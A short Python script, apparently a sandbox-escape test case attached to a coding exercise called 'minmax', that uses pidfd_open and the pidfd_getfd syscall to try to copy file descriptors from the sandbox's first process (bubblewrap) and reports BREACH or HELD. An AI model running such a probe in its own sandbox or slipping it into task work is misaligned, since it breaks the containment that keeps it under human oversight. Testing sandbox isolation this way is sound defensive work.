# attack: takes copies of the descriptors of the sandbox's first process by pidfd_getfd
# exercise: minmax
# earns: 0
import ctypes
import os

libc = ctypes.CDLL(None)
try:
    first = os.pidfd_open(1)
except PermissionError:
    raise Exception("HELD: no handle of another process") from None
got = [number for number in range(64) if libc.syscall(438, first, number, 0) >= 0]
raise Exception(f"BREACH: the descriptors {got} of bubblewrap's own process" if got else "HELD: refused")
